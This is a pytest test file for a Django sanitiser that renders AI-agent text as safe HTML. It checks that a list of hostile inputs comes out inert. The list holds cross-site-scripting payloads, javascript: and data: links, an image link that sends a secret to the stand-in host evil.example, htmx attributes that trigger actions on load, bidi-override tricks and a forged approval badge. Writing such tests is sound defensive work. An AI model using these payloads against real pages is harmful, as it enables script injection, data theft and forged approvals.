import re
import time

import pytest
from django.test import override_settings
from hypothesis import given
from hypothesis import strategies as st

from apps.core.agent_text import MAX_BYTES, inert

PLAIN = "p|br|strong|em|s|code|pre|blockquote|ul|ol|li|h[3-6]|hr|table|thead|tbody|tr|th|td"
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](https://evil.example/?d=secret)",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "<a href='https://evil.example' hx-get='/halts/' hx-trigger='load'>x</a>",
    "<div hx-post='/inbox/1/decision/' hx-trigger='load'></div>",
    "<https://evil.example>",
    "<form action='https://evil.example'><input name=a></form>",
    "<iframe src='//evil.example'></iframe>",
    "<style>body{display:none}</style>",
    "<base href='https://evil.example'>",
    "[a]: https://evil.example\n\n[a]",
    "[x](//evil.example)",
    "[x](/inbox/)",
    "[x](https://evil.example\\@good.example)",
    "[x](https://[)",
    "`<b>`\n\n    <script>\n",
    "\u202e<script>\u202c",
    "[\u202ex](https://evil.example)",
    "<span class='badge ok'>Approved by the CFO</span>",
    "| a | b |\n|--|--|\n| <img src=//evil.example> | [x](https://evil.example) |",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text(text: str) -> None:
    html = str(inert(text))
    tags = re.findall(r"<[^>]*>", html)
    for tag in tags:
        assert re.fullmatch(rf"</?({PLAIN}) ?/?>|<span class=\"token\" title=\"[^\"<>]*\">|</span>", tag), tag
    assert not re.search(r"[\u202a-\u202e\u2066-\u2069\u200b-\u200f]", html)


def test_a_foreign_link_is_its_label_and_its_host() -> None:
    assert inert("See [the invoice](https://evil.example/8841?d=1).") == "<p>See the invoice (evil.example).</p>\n"


@override_settings(AGENT_LINK_HOSTS=("wiki.example.com",))
def test_a_link_to_a_listed_host_is_a_link_without_referrer() -> None:
    assert inert("[p](https://wiki.example.com/a)") == (
        '<p><a href="https://wiki.example.com/a" rel="noopener noreferrer nofollow">p</a></p>\n'
    )


def test_headings_start_below_those_of_the_page() -> None:
    assert inert("# One\n\n#### Four") == "<h3>One</h3>\n<h6>Four</h6>\n"


def test_a_forged_badge_is_shown_as_the_text_that_it_is() -> None:
    assert "&lt;span class=" in inert("<span class='badge ok'>Approved</span>")


def test_long_text_is_cut_and_says_so() -> None:
    html = inert("a" * (MAX_BYTES + 100))
    assert "100 more bytes are not shown" in html
    assert len(html) < MAX_BYTES + 500


def test_the_same_text_costs_once() -> None:
    text = "[x](https://evil.example) " * 120
    inert(text)
    before = time.process_time()
    for _ in range(1000):
        inert(text)
    assert time.process_time() - before < 5  # a thousand parses would take half a minute


@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=400))
def test_any_text_ends_in_allowed_tags(text: str) -> None:
    html = str(inert(text))
    for tag in re.findall(r"<[^>]*>", html):
        assert not re.search(r"on\w+=|hx-|src=|style=|javascript:", tag)
